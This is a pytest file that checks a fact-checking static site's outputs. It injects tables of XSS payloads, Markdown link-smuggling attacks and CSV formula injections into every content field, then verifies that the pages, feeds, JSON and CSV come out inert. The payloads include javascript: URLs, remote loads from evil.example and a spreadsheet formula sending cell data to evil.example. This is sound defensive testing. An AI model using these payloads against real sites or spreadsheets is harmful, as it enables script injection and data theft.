"""Hostile text in every text field of every content type comes out inert in every output.

In the style of goldmark's attack tables. Each payload of a table is written
into every text field the models declare (found by walking them, so a new
field is attacked without editing this file): people, claims, sources,
explainer and page headers and bodies, image alt and credit, and the Spanish
translations of each (``<slug>.es.yaml``, ``<slug>.es.md``). The fixture site
is built once per table, and every file of the output is checked:

- every HTML page, English and Spanish, cards included: nothing executable,
  nothing loaded from elsewhere, nothing that could restyle, redirect or
  retarget the page, and JSON-LD that parses and cannot close its script;
- every Atom feed, read with feedparser without its sanitizer: the titles,
  subtitles, summaries and contents of the feeds and their entries obey the
  same rules when read as HTML;
- every JSON file parses and keeps plain text exactly;
- every CSV file reads back row for row, and no cell is a spreadsheet formula.

The exceptions to these rules are declared below, each as narrowly as it can
be, with the reason. A last table pins the exact sanitized output of the
Markdown renderer, and a set of known-bad snippets shows the checks fail.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import re
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import feedparser
import pytest
from bs4 import BeautifulSoup
from conftest import FIXTURE_SITE, REPO, copy_fixture_site
from test_hostile_csv import spreadsheet_evaluates

from factcheck.building.atomic import build
from factcheck.content.models import CONTENT_TYPES, Claim, Explainer, Page, Person, Source
from factcheck.content.schema import ListOf, Markdown, Model, Nested, Text, join_path
from factcheck.content.translations import TRANSLATABLE, translation_model
from factcheck.outputs.data import CLAIMS_CSV_FIELDS, csv_cell
from factcheck.settings import read_pelican_settings, read_ratings
from factcheck.settings.rating_scale import colour_stylesheet
from factcheck.views.markdown_html import LinkTable, MarkdownRenderer

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "</script><script>alert(1)</script>",
    "<!--",
    "<!-- <script>alert(1)</script> -->",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<img src="https://evil.example/track.png">',
    '<video><source onerror="alert(1)"></video>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<a href="https://example.com/" target="_blank">new window</a>',
    "{{ 7 * 7 }} {% if true %}jinja{% endif %}",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "line\u2028separator\u2029paragraph",
    '<a href="https://evil.example/" onclick="alert(1)">click</a>',
    "<textarea><script>alert(1)</script></textarea>",
]


# Markdown that tries to smuggle a link, an image or raw HTML past the renderer,
# in the manner of goldmark's attack tables.
MARKDOWN_ATTACKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,hi)",
    "[x](vbscript:msgbox)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "![t](javascript:alert(1))",
    "![t](https://evil.example/t.png)",
    '![t](https://evil.example/t.png "title")',
    "<javascript:alert(1)>",
    '<https://example.com/" onclick="alert(1)>',
    '[x](https://example.com/ "t\\" onclick=\\"alert(1)")',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]\n\n[x]: data:text/html,hi",
    "![t][i]\n\n[i]: https://evil.example/t.png",
    '<a href="javascript&colon;alert(1)">x</a>',
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=javascript:alert(1)>unquoted</a>",
    "`</code><script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onload=alert(1)\nx\n```",
    "*<img src=x onerror=alert(1)>*",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1; ?><script>alert(1)</script>",
    "<div markdown=1>[x](javascript:alert(1))</div>",
    "x<sup>[1](javascript:alert(1))</sup>",
    "[x](https://example.com/){: onclick=alert(1) }",
    "# Heading {: #main onclick=alert(1) }",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "{{ 7 * 7 }} {% raw %}x{% endraw %} ${7*7} #{7*7}",
]

# Text that a spreadsheet would evaluate if it reached a CSV cell as it is.
CSV_ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '"=1+1"',
    "'=1+1",
    "a;=1+1",
    "a,=1+1",
    "ok\r=1+1",
    "ok\n=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
]

# Markdown the check refuses (links to other kinds of address): a site with
# them never builds, which test_the_check_refuses_them proves. Text fields
# take them as they are.
REFUSED_IN_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,hi)",
    "[x](vbscript:msgbox)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "![t](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](java%0ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "<div markdown=1>[x](javascript:alert(1))</div>",
    "x<sup>[1](javascript:alert(1))</sup>",
]
REFUSED_PLACEHOLDER = "The check refuses this Markdown here."

# The tables, one build each.
TABLES = {"html": PAYLOADS, "markdown": MARKDOWN_ATTACKS + CSV_ATTACKS}

# A translation's text: the payload with a mark, so a test can tell it reached /es/.
TRANSLATION_MARK = " (es)"

# -- the content: every declared field, attacked or given a fixed valid value --

OMIT = object()  # leave the field out
ATTACK = object()  # give the field the payload (overrides a fixed value)
EVERY_UPDATE = {"updates[].date": "2025-06-01", "updates[].kind": "correction"}
FIRST_PUBLISHED = "https://example.org/first/{n}"

# Values of the fields that are not text, by content type. A field that is
# neither text nor listed here makes `record` fail: give it a value here.
FIXED: dict[str, dict[str, object]] = {
    "person": {
        "kind": "person",
        "published": "2025-05-30",
        "first_published_at": FIRST_PUBLISHED,
        "image.file": "jane-doe.png",
        "facts[].sources": ["hostile-{n}"],
        "timeline[].date": "2025-01",
        "timeline[].sources": ["hostile-{n}"],
        "privacy.noindex": False,
        **EVERY_UPDATE,
    },
    "claim": {
        "claimant": "person-{n}",
        "claimant_name": OMIT,
        "claimant_kind": OMIT,
        "date": "2025-03",
        "appearances": ["hostile-{n}", "hostile-{n}-offline"],
        "about": ["person-{n}"],
        "rating": "mixed",
        "sources[].source": "hostile-{n}",
        "published": "2025-05-30",
        "first_published_at": FIRST_PUBLISHED,
        "privacy.noindex": False,
        **EVERY_UPDATE,
    },
    "source": {
        "url": "https://example.org/{n}",
        "date": "2025-01-10",
        "accessed": "2025-05-30",
        "archive_url": "https://web.archive.org/{n}",
        "archived": "2025-05-30",
        "dead": "2025-05-30",
        "type": "news",
        "language": "en",
        "offline": False,
    },
    "explainer": {
        "date": "2025-05-30",
        "first_published_at": FIRST_PUBLISHED,
        "modified": OMIT,  # see below
        "people": ["person-{n}"],
        "sources": ["hostile-{n}"],
        "slug": OMIT,
        "lang": OMIT,
        "status": "published",
        **EVERY_UPDATE,
    },
    "page": {
        "date": "2025-05-30",
        "first_published_at": FIRST_PUBLISHED,
        "modified": OMIT,  # see below
        "slug": OMIT,
        "lang": OMIT,
        "status": "published",
        **EVERY_UPDATE,
    },
}
# Modified is left out of explainers and pages: with Date, it stops the build
# with an internal error today (the sitemap compares Pelican's time-zone-aware
# `modified` with the naive metadata date). It is a date, so no payload is lost.
NAMED_CLAIMANT = {"claimant": OMIT, "claimant_name": ATTACK, "claimant_kind": "organization"}
OFFLINE_SOURCE = {"offline": True, "url": OMIT, "archive_url": OMIT}
TRANSLATED = {"translated": "2025-06-15"}
TRANSLATED_DOCUMENT = {"lang": "es", "date": "2025-06-01"}

# The models translation files are read with (derived from Person and Claim).
SHEET_TRANSLATIONS = {
    "person": translation_model(Person, top=True),
    "claim": translation_model(Claim, top=True),
}


def variants() -> list[tuple[str, type[Model], dict[str, object]]]:
    """(content type, model, fixed values) of every file written per payload."""
    return [
        ("person", Person, FIXED["person"]),
        ("claim", Claim, FIXED["claim"]),
        ("claim", Claim, {**FIXED["claim"], **NAMED_CLAIMANT}),
        ("source", Source, FIXED["source"]),
        ("source", Source, {**FIXED["source"], **OFFLINE_SOURCE}),
        ("explainer", Explainer, FIXED["explainer"]),
        ("explainer", Explainer, {**FIXED["explainer"], **TRANSLATED_DOCUMENT}),
        ("page", Page, FIXED["page"]),
        ("page", Page, {**FIXED["page"], **TRANSLATED_DOCUMENT}),
        ("person", SHEET_TRANSLATIONS["person"], TRANSLATED),
        ("claim", SHEET_TRANSLATIONS["claim"], {**TRANSLATED, "claimant_name": OMIT}),
        ("claim", SHEET_TRANSLATIONS["claim"], TRANSLATED),
    ]


def _numbered(value, n: int):
    if isinstance(value, str):
        return value.format(n=n)
    if isinstance(value, list):
        return [_numbered(item, n) for item in value]
    return value


def record(model: type[Model], fixed: dict, text, n: int, prefix: str = "") -> dict:
    """A content record of `model`: fixed values where given, `text(path, field)` in text fields.

    Lists get one entry, so translations match their originals entry for entry.
    """
    result = {}
    for name, spec in model.fields.items():
        path = join_path(prefix, name)
        value = fixed.get(path, ATTACK if isinstance(spec, Text) else None)
        if value is OMIT:
            continue
        if value is ATTACK:
            result[name] = text(path, spec)
        elif value is not None:
            result[name] = _numbered(value, n)
        elif isinstance(spec, Nested):
            result[name] = record(spec.model, fixed, text, n, path)
        elif isinstance(spec, ListOf) and isinstance(spec.item, Text):
            result[name] = [text(path + "[]", spec.item)]
        elif isinstance(spec, ListOf) and hasattr(spec.item, "model"):
            result[name] = [record(spec.item.model, fixed, text, n, path + "[]")]
        else:
            raise AssertionError(
                f"{model.__name__}.{path} is not text: give it a value in FIXED[...] "
                "in tests/test_hostile_input.py"
            )
    return result


def attack_text(payload: str, mark: str = ""):
    """The `text` of `record`: the payload, unless the check refuses it in that field."""

    def text(path: str, spec: Text) -> str:
        if isinstance(spec, Markdown) and payload in REFUSED_IN_MARKDOWN:
            return REFUSED_PLACEHOLDER + mark
        return fitted(payload + mark, spec)

    return text


def yaml_document(data: dict) -> str:
    """YAML holding exactly `data` (JSON is YAML)."""
    return json.dumps(data, indent=2) + "\n"


def one_line(text: str) -> str:
    """A header value is one line: line breaks in a payload become spaces."""
    return text.replace("\r\n", " ").replace("\r", " ").replace("\n", " ")


def markdown_document(header: dict, body: str) -> str:
    """An explainer or page: `Key: value` lines, a blank line, then the body."""
    lines = []
    for key, value in header.items():
        name = key.capitalize()
        if key == "updates":
            entries = [f"{u['date']} {u['kind']}: {one_line(u['text'])}" for u in value]
            lines.append(f"{name}: " + "\n    ".join(entries))
        elif isinstance(value, list):
            lines.append(f"{name}: {', '.join(value)}")
        else:
            lines.append(f"{name}: {one_line(str(value))}")
    return "\n".join(lines) + "\n\n" + body + "\n"


def content_files(n: int, payload: str) -> dict[str, str]:
    """Every content file written for payload number `n`, by path under content/."""
    original = attack_text(payload)
    translated = attack_text(payload, TRANSLATION_MARK)
    files = {}
    by_file = {
        "person": [f"people/person-{n}.yaml", f"people/person-{n}.es.yaml"],
        "claim": [
            f"claims/claim-{n}.yaml",
            f"claims/claim-{n}-named.yaml",
            f"claims/claim-{n}.es.yaml",
            f"claims/claim-{n}-named.es.yaml",
        ],
        "explainer": [f"explainers/explainer-{n}.md", f"explainers/explainer-{n}.es.md"],
        "page": [f"pages/page-{n}.md", f"pages/page-{n}.es.md"],
    }
    sources = {}
    for kind, model, fixed in variants():
        is_translation = "translated" in fixed or fixed.get("lang") == "es"
        text = translated if is_translation else original
        data = record(model, fixed, text, n)
        if kind == "source":
            sources[f"hostile-{n}-offline" if data.get("offline") else f"hostile-{n}"] = data
            continue
        path = by_file[kind].pop(0)
        if kind in ("explainer", "page"):
            body = text("body", Markdown()) + f"\n\nCited [@hostile-{n}]."
            files[path] = markdown_document(data, body)
        else:
            files[path] = yaml_document(data)
    files[f"sources/hostile-{n}.yaml"] = yaml_document(sources)
    return files


@dataclass(frozen=True)
class HostileSite:
    out: Path
    payloads: list[str]


def build_hostile_site(root: Path, payloads: list[str]) -> HostileSite:
    project = copy_fixture_site(root / "site")
    for n, payload in enumerate(payloads):
        for relative, text in content_files(n, payload).items():
            project.write(f"content/{relative}", text, dedent=False)
    out = root / "output"
    build(project.settings_file, out)
    return HostileSite(out, payloads)


@pytest.fixture(scope="module")
def site_of_table(tmp_path_factory):
    """Builds each table's site once, whichever test asks first."""

    @functools.cache
    def site(table: str) -> HostileSite:
        return build_hostile_site(tmp_path_factory.mktemp(table), TABLES[table])

    return site


@pytest.fixture(scope="module", params=sorted(TABLES))
def every_site(request, site_of_table) -> HostileSite:
    return site_of_table(request.param)


@pytest.fixture(scope="module")
def hostile_site(site_of_table) -> HostileSite:
    return site_of_table("html")


# -- the rules every output obeys, and their declared exceptions --

# Elements no page of this site ever has, whatever the content.
FORBIDDEN_ELEMENTS = {
    "applet", "audio", "base", "button", "embed", "form", "frame", "frameset", "iframe",
    "input", "math", "noscript", "object", "portal", "select", "source", "style", "svg",
    "template", "textarea", "video",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction", "target"}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset", "ping",
    "background", "cite", "longdesc", "manifest",
}  # fmt: skip
C0_AND_SPACE = "".join(map(chr, range(0x21)))  # what browsers strip around a URL

JSON_LD = "application/ld+json"

# Exception: the search page runs Pagefind's interface and the theme's glue,
# both files of this site (script-src 'self'), with no inline code. Only there.
SEARCH_PAGES = {"search/index.html", "es/search/index.html"}
SEARCH_SCRIPTS = {"/pagefind/pagefind-ui.js", "/theme/js/search.js"}

# Exception: a claim card is made to be shown in an iframe on other sites, and
# its link must open the full fact-check in the reader's window, not inside
# the small frame: target="_top". It navigates the reader's own tab (no new
# window, no window.opener), and it is allowed only in card pages, only on
# the link to the card's own claim page, whose address the generator writes
# from the slug, never from content.
CARD_PAGE_RE = re.compile(r"(?:(?P<lang>[a-z]{2})/)?claims/(?P<slug>[a-z0-9-]+)/card/index\.html")


def own_claim_url(where: str) -> str | None:
    """The claim page a card links to with target="_top", or None for any other file."""
    card = CARD_PAGE_RE.fullmatch(where)
    if card is None:
        return None
    return f"/{card['lang'] + '/' if card['lang'] else ''}claims/{card['slug']}/"


def html_problems(soup: BeautifulSoup, where: str) -> list[str]:
    """Everything in `soup` (a page or a feed's HTML) that breaks the rules, one line each."""
    problems: list[str] = []
    own_claim = own_claim_url(where)

    def bad(element, why: str) -> None:
        problems.append(f"{where}: {why}: {str(element)[:160]!r}")

    for element in soup.find_all(True):
        name = element.name
        if name in FORBIDDEN_ELEMENTS:
            bad(element, f"<{name}>")
        if name == "script":
            raw = element.string or ""
            if element.get("type") == JSON_LD:
                if "<" in raw or ">" in raw:
                    bad(element, "JSON-LD that could close its script block")
                try:
                    json.loads(raw)
                except ValueError:
                    bad(element, "JSON-LD that does not parse")
            elif not (where in SEARCH_PAGES and element.get("src") in SEARCH_SCRIPTS and not raw):
                bad(element, "script")
        if name in ("meta", "link") and element.find_parent("head") is None:
            bad(element, f"<{name}> outside the head")
        if name == "meta" and element.get("http-equiv", "").lower() not in (
            "",
            "content-security-policy",
        ):
            bad(element, "meta http-equiv")
        for attribute, value in element.attrs.items():
            attribute = attribute.lower()
            value = " ".join(value) if isinstance(value, list) else value
            if attribute.startswith("on"):
                bad(element, f"event handler {attribute}")
            if attribute == "target":
                if not (
                    own_claim and name == "a" and value == "_top" and element["href"] == own_claim
                ):
                    bad(element, "target")
            elif attribute in FORBIDDEN_ATTRIBUTES:
                bad(element, f"attribute {attribute}")
            if attribute in URL_ATTRIBUTES:
                url = value.strip(C0_AND_SPACE)
                if urlsplit(url).scheme.lower() not in ("", "http", "https"):
                    bad(element, f"{attribute} with a scheme other than http or https")
                if attribute in ("src", "srcset", "data", "poster", "background") and (
                    urlsplit(url).netloc or url.startswith("//")
                ):
                    bad(element, f"{attribute} loading from another host")
    return problems


def feed_problems(data: bytes, where: str) -> list[str]:
    """A feed's text constructs, as a feed reader gets them, read as HTML."""
    parsed = feedparser.parse(data, sanitize_html=False, resolve_relative_uris=False)
    problems = [f"{where}: not well-formed: {parsed.bozo_exception}"] if parsed.bozo else []
    texts = [
        ("title", parsed.feed.get("title_detail")),
        ("subtitle", parsed.feed.get("subtitle_detail")),
    ]
    for number, entry in enumerate(parsed.entries):
        texts += [
            (f"entry {number} title", entry.get("title_detail")),
            (f"entry {number} summary", entry.get("summary_detail")),
        ]
        texts += [(f"entry {number} content", content) for content in entry.get("content", ())]
    for label, detail in texts:
        if detail is not None:
            soup = BeautifulSoup(detail["value"], "html.parser")
            problems += html_problems(soup, f"{where} {label} ({detail['type']})")
    return problems


def csv_problems(text: str, where: str) -> list[str]:
    """Rows that do not read back as written, and cells a spreadsheet would evaluate."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    problems = [] if rows[:1] == [list(CLAIMS_CSV_FIELDS)] else [f"{where}: header {rows[:1]}"]
    for number, row in enumerate(rows):
        if len(row) != len(CLAIMS_CSV_FIELDS):
            problems.append(f"{where}: row {number} has {len(row)} cells: {row!r:.160}")
        problems += [
            f"{where}: row {number}: formula {cell!r:.80}"
            for cell in row
            if spreadsheet_evaluates(cell)
        ]
    return problems


def output_files(site: HostileSite, suffix: str) -> list[tuple[str, Path]]:
    return sorted(
        (path.relative_to(site.out).as_posix(), path) for path in site.out.rglob(f"*{suffix}")
    )


@functools.lru_cache(maxsize=4096)
def parse(out: Path, relative: str) -> BeautifulSoup:
    """Each page is parsed once; tests only read the tree."""
    return BeautifulSoup((out / relative).read_text(encoding="utf-8"), "html.parser")


def page(site: HostileSite, url: str) -> BeautifulSoup:
    return parse(site.out, f"{url}/index.html" if url else "index.html")


def fitted(text: str, spec: Text) -> str:
    """As much of the payload as a length-limited field (a claim's short form) takes."""
    limit = getattr(spec, "max_length", None)
    return text[:limit] if limit else text


def expected_text(payload: str, mark: str = "") -> str:
    """What a plain text field holds: the payload, trimmed as the check trims text."""
    return (payload + mark).strip()


def expected_short_claim(payload: str, mark: str = "") -> str:
    """What claimReviewed holds: the claim's short form, the payload cut to its limit."""
    return fitted(payload + mark, Claim.fields["claim_short"]).strip()


def no_problems(problems: list[str]) -> None:
    assert not problems, f"{len(problems)} problems, the first:\n" + "\n".join(problems[:15])


# -- coverage: every field of every content type is attacked --


def test_every_declared_text_field_is_attacked():
    attacked: dict[type[Model], set[str]] = {}

    def recorder(model):
        def text(path, spec):
            attacked.setdefault(model, set()).add(path)
            return "x"

        return text

    for _, model, fixed in variants():
        record(model, fixed, recorder(model), 0)
    assert set(TRANSLATABLE.values()) == {Person, Claim}, "attack the new translation files too"
    models = {*CONTENT_TYPES.values(), *SHEET_TRANSLATIONS.values()}
    assert models <= set(attacked), "a content type is not written by variants()"
    for model in models:
        text_fields = {path for path, spec in model.walk_fields() if isinstance(spec, Text)}
        text_fields |= {
            path + "[]"
            for path, spec in model.walk_fields()
            if isinstance(spec, ListOf) and isinstance(spec.item, Text)
        }
        text_fields -= {"translated"}
        assert text_fields - attacked[model] == set(), model.__name__


# -- every output file --


def test_every_output_file_is_checked(every_site):
    """HTML, feeds, JSON and CSV are checked below; the rest is copied and never has content."""
    copied_from = {"theme": REPO / "theme" / "static", "images": FIXTURE_SITE / "content/images"}
    for relative, path in output_files(every_site, ""):
        if path.is_dir() or path.suffix in (".html", ".xml", ".json", ".csv"):
            continue
        if relative == "robots.txt":
            assert path.read_text() == (
                "User-agent: *\nAllow: /\nSitemap: http://127.0.0.1:8000/sitemap.xml\n"
            )
            continue
        if relative == "theme/css/ratings.css":  # made from the settings, never from content
            scale = read_ratings(
                read_pelican_settings(REPO / "pelicanconf.py")["FACTCHECK_RATINGS"]
            )
            assert path.read_text(encoding="utf-8") == colour_stylesheet(scale.values())
            continue
        folder, _, rest = relative.partition("/")
        assert folder in copied_from, f"{relative}: an output the hostile tests do not check"
        assert path.read_bytes() == (copied_from[folder] / rest).read_bytes(), relative


def test_every_html_page_is_inert(every_site):
    pages = output_files(every_site, ".html")
    problems = [
        p for relative, _ in pages for p in html_problems(parse(every_site.out, relative), relative)
    ]
    no_problems(problems)
    cards = [relative for relative, _ in pages if CARD_PAGE_RE.fullmatch(relative)]
    assert len(cards) == 2 * (
        2 * len(every_site.payloads) + 1
    )  # both claims per payload, in both languages


def test_every_feed_entry_is_inert(every_site):
    feeds = [(r, p) for r, p in output_files(every_site, ".xml") if r != "sitemap.xml"]
    problems = [p for relative, path in feeds for p in feed_problems(path.read_bytes(), relative)]
    no_problems(problems)
    updates = feedparser.parse((every_site.out / "feeds/updates.atom.xml").read_bytes())
    assert len(updates.entries) >= 4 * len(every_site.payloads)
    for loc in ET.parse(every_site.out / "sitemap.xml").getroot().iter():
        if loc.tag.endswith("loc"):
            assert loc.text.startswith("http://127.0.0.1:8000/"), loc.text


def test_every_json_file_parses_and_keeps_plain_text_exactly(every_site):
    for _, path in output_files(every_site, ".json"):
        json.loads(path.read_text(encoding="utf-8"))
    for lang, mark in (("", ""), ("es/", TRANSLATION_MARK)):
        data = every_site.out / f"{lang}data"
        people = {p["slug"]: p for p in json.loads((data / "people.json").read_text())}
        sources = {s["id"]: s for s in json.loads((data / "sources.json").read_text())}
        claims = {c["url"]: c for c in json.loads((data / "claims.json").read_text())}
        for n, payload in enumerate(every_site.payloads):
            person = people[f"person-{n}"]
            assert person["name"] == expected_text(payload, mark)
            assert person["aliases"] == [expected_text(payload, mark)]
            assert person["facts"][0]["label"] == expected_text(payload, mark)
            assert sources[f"hostile-{n}"]["title"] == expected_text(payload)
            assert sources[f"hostile-{n}"]["publisher"] == expected_text(payload)
            claim = claims[f"http://127.0.0.1:8000/{lang}claims/claim-{n}/"]
            assert claim["claimReviewed"] == expected_short_claim(payload, mark)


def test_every_csv_cell_reads_back_and_is_no_formula(every_site):
    for lang, mark in (("", ""), ("es/", TRANSLATION_MARK)):
        relative = f"{lang}data/claims.csv"
        text = (every_site.out / relative).read_text(encoding="utf-8")
        no_problems(csv_problems(text, relative))
        rows = {row[0]: row for row in csv.reader(io.StringIO(text, newline=""))}
        for n, payload in enumerate(every_site.payloads):
            claim = csv_cell(expected_text(payload, mark).replace("\r\n", "\n"))
            assert rows[f"claim-{n}"][1] == claim
            assert rows[f"claim-{n}-named"][2] == csv_cell(expected_text(payload, mark))
    assert [c for c in output_files(every_site, ".csv")] == [
        ("data/claims.csv", every_site.out / "data/claims.csv"),
        ("es/data/claims.csv", every_site.out / "es/data/claims.csv"),
    ]


# -- the text is shown escaped, not dropped, in every language and on cards --


@pytest.mark.parametrize("number", range(len(PAYLOADS)), ids=[p[:40] for p in PAYLOADS])
def test_plain_text_fields_show_the_payload_escaped_not_dropped(hostile_site, number):
    payload = expected_text(PAYLOADS[number])
    translated = expected_text(PAYLOADS[number], TRANSLATION_MARK)
    claim = page(hostile_site, f"claims/claim-{number}")
    assert claim.h1.get_text() == f"Claim: “{payload}”"
    quote = claim.select_one("section.evidence blockquote")
    assert quote.get_text(strip=True) == f"“{payload}”".strip()
    card = page(hostile_site, f"claims/claim-{number}/card")
    assert card.h1.get_text() == f"“{payload}”"
    assert page(hostile_site, f"es/claims/claim-{number}").h1.get_text().endswith(f"“{translated}”")
    assert page(hostile_site, f"es/claims/claim-{number}/card").h1.get_text() == f"“{translated}”"
    person = page(hostile_site, f"people/person-{number}")
    assert person.h1.get_text() == payload
    assert person.select_one("dl.facts dt").get_text() == payload
    assert person.find("img", alt=payload) is not None
    assert page(hostile_site, f"es/people/person-{number}").h1.get_text() == translated
    assert page(hostile_site, f"es/people/person-{number}").find("img", alt=translated) is not None
    assert page(hostile_site, f"explainers/explainer-{number}").h1.get_text() == payload
    assert page(hostile_site, f"es/explainers/explainer-{number}").h1.get_text() == translated
    assert page(hostile_site, f"page-{number}").h1.get_text() == payload
    assert page(hostile_site, f"es/page-{number}").h1.get_text() == translated
    entry = page(hostile_site, "sources").find(id=f"src-hostile-{number}")
    assert entry.find("cite").get_text() == payload


@pytest.mark.parametrize("number", range(len(PAYLOADS)), ids=[p[:40] for p in PAYLOADS])
def test_json_ld_keeps_the_text_and_cannot_close_its_script(hostile_site, number):
    payload = expected_text(PAYLOADS[number])
    html = (hostile_site.out / f"claims/claim-{number}/index.html").read_text(encoding="utf-8")
    start = html.index('<script type="application/ld+json">') + len(
        '<script type="application/ld+json">'
    )
    raw = html[start : html.index("</script>", start)]
    assert "<" not in raw and ">" not in raw and "\u2028" not in raw
    data = json.loads(raw)
    assert data["claimReviewed"] == expected_short_claim(PAYLOADS[number])
    assert data["itemReviewed"]["author"]["name"] == payload


def test_the_tables_have_enough_payloads():
    assert len(PAYLOADS) >= 40
    assert len(MARKDOWN_ATTACKS) >= 30
    assert set(REFUSED_IN_MARKDOWN) <= set(MARKDOWN_ATTACKS)


def test_the_check_refuses_them(project):
    """The Markdown the tables give only to text fields is refused in Markdown fields."""
    for n, payload in enumerate(REFUSED_IN_MARKDOWN):
        project.write(
            f"content/claims/refused-{n}.yaml",
            project.read("content/claims/budget-doubled.yaml").replace(
                "verdict: The budget grew by a third, not a half or more.",
                f"verdict: {json.dumps(payload)}",
            ),
            dedent=False,
        )
    refused = {p.path for p in project.problems() if p.is_error and p.field == "verdict"}
    assert refused == {f"content/claims/refused-{n}.yaml" for n in range(len(REFUSED_IN_MARKDOWN))}


# -- each rule fails on what it forbids --

BAD_PAGES = [
    ("claims/x/index.html", "<script>alert(1)</script>"),
    ("claims/x/index.html", '<script src="/theme/js/search.js"></script>'),
    ("search/index.html", '<script src="/theme/js/search.js">alert(1)</script>'),
    ("claims/x/index.html", '<script type="application/ld+json">{"a": "</p>"}</script>'),
    ("claims/x/index.html", '<script type="application/ld+json">{"a": </script>'),
    ("claims/x/index.html", '<p onclick="alert(1)">x</p>'),
    ("claims/x/index.html", '<a href=" javascript:alert(1)">x</a>'),
    ("claims/x/index.html", '<a href="data:text/html,x">x</a>'),
    ("claims/x/index.html", '<img src="https://evil.example/t.png">'),
    ("claims/x/index.html", '<img srcset="//evil.example/t.png 2x">'),
    ("claims/x/index.html", '<base href="https://evil.example/">'),
    ("claims/x/index.html", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("claims/x/index.html", '<a href="/claims/x/" target="_top">x</a>'),
    ("claims/x/card/index.html", '<a href="/claims/y/" target="_top">x</a>'),
    ("claims/x/card/index.html", '<a href="/claims/x/" target="_blank">x</a>'),
    ("es/claims/x/card/index.html", '<a href="/claims/x/" target="_top">x</a>'),
    ("claims/x/card/index.html", '<form target="_top" href="/claims/x/"></form>'),
    ("claims/x/index.html", '<p style="position:fixed">x</p>'),
    ("claims/x/index.html", "<svg><a>x</a></svg>"),
]
GOOD_PAGES = [
    ("claims/x/card/index.html", '<a href="/claims/x/" target="_top">x</a>'),
    ("es/claims/x/card/index.html", '<a href="/es/claims/x/" target="_top">x</a>'),
    ("search/index.html", '<script src="/pagefind/pagefind-ui.js" defer></script>'),
    (
        "claims/x/index.html",
        '<script type="application/ld+json">{"a": "\\u003c/script\\u003e"}</script>',
    ),
    (
        "claims/x/index.html",
        '<a href="https://example.org/" rel="noopener">x</a><img src="/images/a.png">',
    ),
]


@pytest.mark.parametrize(("where", "html"), BAD_PAGES, ids=[f"{w} {h}"[:60] for w, h in BAD_PAGES])
def test_the_page_rules_fail_on_what_they_forbid(where, html):
    assert html_problems(BeautifulSoup(html, "html.parser"), where)


@pytest.mark.parametrize(
    ("where", "html"), GOOD_PAGES, ids=[f"{w} {h}"[:60] for w, h in GOOD_PAGES]
)
def test_the_page_rules_allow_the_declared_exceptions(where, html):
    assert html_problems(BeautifulSoup(html, "html.parser"), where) == []


def atom(title: str, summary: str, title_type: str = "text") -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>t</title><id>x</id><updated>2025-01-01T00:00:00Z</updated><entry>"
        f'<title type="{title_type}">{title}</title><id>y</id>'
        f'<updated>2025-01-01T00:00:00Z</updated><summary type="html">{summary}</summary>'
        "</entry></feed>"
    ).encode()


def test_the_feed_rules_fail_on_what_they_forbid():
    assert feed_problems(atom("ok", "&lt;script&gt;alert(1)&lt;/script&gt;"), "f")
    assert feed_problems(atom("&lt;img src=x onerror=alert(1)&gt;", "ok"), "f")
